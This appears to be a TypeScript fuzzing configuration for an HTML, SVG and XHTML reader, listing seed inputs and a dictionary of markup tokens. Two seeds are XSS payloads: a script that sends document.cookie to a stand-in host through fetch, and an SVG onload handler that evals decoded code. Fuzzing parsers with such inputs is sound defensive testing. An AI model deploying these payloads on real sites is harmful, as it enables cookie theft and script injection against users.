import { readerTarget } from '../scanned.ts'
import { corpusTexts, pageTexts } from '../seeds.ts'

export const target = readerTarget(['index.html', 'logo.svg', 'page.xhtml'], { seeds: ['<script>fetch("https://x.example.invalid/"+document.cookie)</script>', '<svg xmlns="http://www.w3.org/2000/svg" onload="eval(atob(\'YQ==\'))"><script href="data:text/javascript,a()"/></svg>', ...corpusTexts(/\.(?:html?|svg)$/, 30), ...pageTexts(/^(?:html|svg|xml)$/, 60)], words: ['<script>', '</script>', '<![CDATA[', '<!--', '<template>', '<table>', '<math>', '<svg>', ' onload="', 'javascript:', '<plaintext>', '<select>', '&NewLine;'] })
